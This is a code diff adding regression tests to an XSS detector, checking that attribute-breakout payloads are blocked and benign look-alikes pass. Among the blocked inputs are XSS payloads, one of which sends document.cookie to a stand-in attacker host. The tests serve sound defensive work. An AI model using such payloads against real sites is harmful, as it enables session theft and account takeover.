@@ -263,3 +263,29 @@ describe("xss detector regressions from the dev corpus", () => {
     expect(xss(input, kind).score).toBeLessThan(5);
   });
 });
+
+// xss/breakouts.ts scanAttributeBreakout: a handler after blanks that follow the value's first quote closed
+// the page's attribute value, whatever the handler's own value looks like (HTML names fold case).
+describe("xss: a handler after the quote that closes the page's attribute", () => {
+  it.each([
+    ["\" onmouseenter=new Image().src='//x.example/?c='+document.cookie", ARG],
+    ["\" ONMOuSEenteR=NeW iMAgE().Src='//atTackeR.EXamPlE/?c='+DOCUment.COOkie", ARG],
+    ["'\tonfocus=location autofocus x='", HEADER],
+    ["\"  onpointerdown=top x=\"", BODY],
+  ] as [string, number][])("blocks %j (kind %i)", (input, kind) => {
+    const r = xss(input, kind);
+    expect(r.ids).toContain(3004);
+    expect(r.score).toBeGreaterThanOrEqual(5);
+  });
+
+  it.each([
+    // the quote before the handler-like name closes a string of the value's own
+    ["status=\"active\" online=yes", ARG],
+    ["a=\"x\" onhold=true next", ARG],
+    // no quote before it, and prose after `=`
+    ["onion=layered vegetable", ARG],
+    ["\"quoted\" and then onboarding=complete", ARG],
+  ] as [string, number][])("lets %j through (kind %i)", (input, kind) => {
+    expect(xss(input, kind).score).toBeLessThan(5);
+  });
+});
